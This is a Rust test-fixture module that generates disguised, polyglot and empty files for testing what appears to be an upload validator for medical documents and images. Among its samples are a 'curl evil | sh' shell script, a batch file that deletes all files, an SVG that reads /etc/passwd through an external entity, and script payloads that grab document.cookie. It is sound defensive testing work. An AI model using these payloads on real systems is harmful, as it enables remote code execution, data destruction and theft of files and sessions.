//! Files that are not what their names say, or two things at once.

use image::ImageFormat;

use crate::parts::{Member, document, image_file, picture, zip};
use crate::{Case, case};

pub fn cases() -> Vec<Case> {
    let mut cases = Vec::new();
    markup(&mut cases);
    programs(&mut cases);
    extensions(&mut cases);
    polyglots(&mut cases);
    empty(&mut cases);
    cases
}

fn markup(cases: &mut Vec<Case>) {
    let html: [(&str, Vec<u8>); 6] = [
        ("plain", b"<!DOCTYPE html><script>fetch('/desk')</script>".to_vec()),
        ("capitals", b"<HTML><BODY ONLOAD=alert(1)>".to_vec()),
        ("after a mark and blanks", "\u{feff}\r\n\t  <html><iframe src=x>".as_bytes().to_vec()),
        ("after a comment", b"<!-- %PDF-1.4 --><html><script>1</script>".to_vec()),
        ("UTF-16", "<html><script>alert(1)</script>".encode_utf16().flat_map(u16::to_le_bytes).collect()),
        ("XHTML", b"<?xml version='1.0'?><html xmlns='http://www.w3.org/1999/xhtml'><script/></html>".to_vec()),
    ];
    for (what, bytes) in &html {
        for name in ["results.pdf", "scan.jpg", "IM0001.dcm"] {
            let what = format!("{what} as {name}");
            cases.push(case("html-in-disguise", what, name, bytes.clone(), &["not-what-it-says"]));
        }
    }
    let svg: [(&str, &[u8]); 3] = [
        ("plain", b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>"),
        ("with a prologue", b"<?xml version='1.0'?>\n<!DOCTYPE svg><svg><script>alert(1)</script></svg>"),
        ("entities", b"<?xml version='1.0'?><!DOCTYPE svg [<!ENTITY a SYSTEM 'file:///etc/passwd'>]><svg>&a;</svg>"),
    ];
    for (what, bytes) in svg {
        for name in ["scan.png", "report.pdf"] {
            let what = format!("{what} as {name}");
            cases.push(case("svg-in-disguise", what, name, bytes.to_vec(), &["not-what-it-says"]));
        }
    }
    cases.push(case("svg-in-disguise", "under its own name", "logo.svg", svg[0].1.to_vec(), &["active-content"]));
    let script = b"document.cookie".to_vec();
    cases.push(case("script", "under its own name", "viewer.js", script, &["active-content"]));
}

fn programs(cases: &mut Vec<Case>) {
    let programs: [(&str, &[u8]); 5] = [
        ("windows", b"MZ\x90\0\x03\0\0\0\x04\0\0\0\xFF\xFF\0\0\xB8"),
        ("linux", b"\x7FELF\x02\x01\x01\0\0\0\0\0\0\0\0\0\x02\0\x3E\0"),
        ("script", b"#!/bin/sh\ncurl evil | sh\n"),
        ("batch", b"@echo off\r\ndel /q *.*\r\n"),
        ("shortcut", b"L\0\0\0\x01\x14\x02\0\0\0\0\0\xC0\0\0\0\0\0\0\x46"),
    ];
    for (what, bytes) in programs {
        for name in ["report.pdf", "IM0001.dcm", "photo.jpeg"] {
            let what = format!("{what} as {name}");
            cases.push(case("program-in-disguise", what, name, bytes.to_vec(), &["not-what-it-says"]));
        }
    }
}

fn extensions(cases: &mut Vec<Case>) {
    let (jpeg, pdf) = (picture(320, 240, ImageFormat::Jpeg), document("", "", &[]));
    let archive = zip(&[Member::stored("a.txt", b"x")]);
    for (what, name, bytes) in [
        ("a photo as a PDF", "passport.PDF", jpeg.clone()),
        ("a photo as DICOM", "IM1.dcm", jpeg.clone()),
        ("a JPEG as PNG", "photo.png", jpeg),
        ("a PDF as a photo", "scan.jpg", pdf.clone()),
        ("a PDF as a letter", "letter.docx", pdf),
        ("an archive as a PDF", "report.pdf", archive.clone()),
        ("an archive as DICOM", "study.dcm", archive),
        ("DICOM as a PDF", "mri.pdf", image_file()),
        ("DICOM as a photo", "mri.jpg", image_file()),
        ("text as a PDF", "report.pdf", b"INR 2.4".to_vec()),
    ] {
        cases.push(case("wrong-extension", what, name, bytes, &["not-what-it-says"]));
    }
}

fn polyglots(cases: &mut Vec<Case>) {
    let mut dicom = image_file();
    dicom[..9].copy_from_slice(b"%PDF-1.4\n");
    cases.push(case("polyglot", "PDF in a preamble", "report.pdf", dicom.clone(), &["not-what-it-says"]));
    dicom[..9].copy_from_slice(b"<html><a>");
    cases.push(case("polyglot", "HTML in a preamble", "page.pdf", dicom.clone(), &["not-what-it-says"]));
    cases.push(case("polyglot", "HTML in a preamble, as DICOM", "IM1.dcm", dicom, &[]));
    let (jpeg, archive) = (picture(64, 64, ImageFormat::Jpeg), zip(&[Member::stored("evil.exe", b"MZ")]));
    let both = [&jpeg[..], &archive].concat();
    cases.push(case("polyglot", "a photo, then an archive", "a.zip", both.clone(), &["not-what-it-says"]));
    cases.push(case("polyglot", "a photo, then an archive, as a photo", "a.jpg", both, &[]));
    let png = [&picture(64, 64, ImageFormat::Png)[..], b"<html><script>alert(1)</script>"].concat();
    cases.push(case("polyglot", "a picture, then HTML", "a.html.png", png, &[]));
    let mut comment = jpeg[..2].to_vec();
    let script = b"<script>alert(1)</script>";
    comment.extend([0xFF, 0xFE, 0, script.len() as u8 + 2]);
    comment.extend(script);
    comment.extend(&jpeg[2..]);
    cases.push(case("polyglot", "HTML in a photo's comment", "a.jpg", comment, &[]));
    let front = [&b"<html><script>alert(1)</script>"[..], &document("", "", &[])].concat();
    cases.push(case("polyglot", "HTML, then a PDF", "report.pdf", front, &["not-what-it-says"]));
    let gif = b"GIF89a=1;alert(document.cookie)//\0\0\0".to_vec();
    // Left aside with the viewer's files.
    cases.push(case("polyglot", "a GIF that is a script", "a.js", gif, &[]));
}

fn empty(cases: &mut Vec<Case>) {
    for name in ["report.pdf", "IM1.dcm", "a.jpg", "a.zip", "", "DICOMDIR"] {
        cases.push(case("empty", name, name, Vec::new(), &["empty"]));
    }
    for (what, byte) in [("zeros", 0), ("ones", 0xFF), ("blanks", b' ')] {
        cases.push(case("only-one-byte", what, "IM1.dcm", vec![byte; 5000], &["not-what-it-says", "unreadable"]));
    }
}
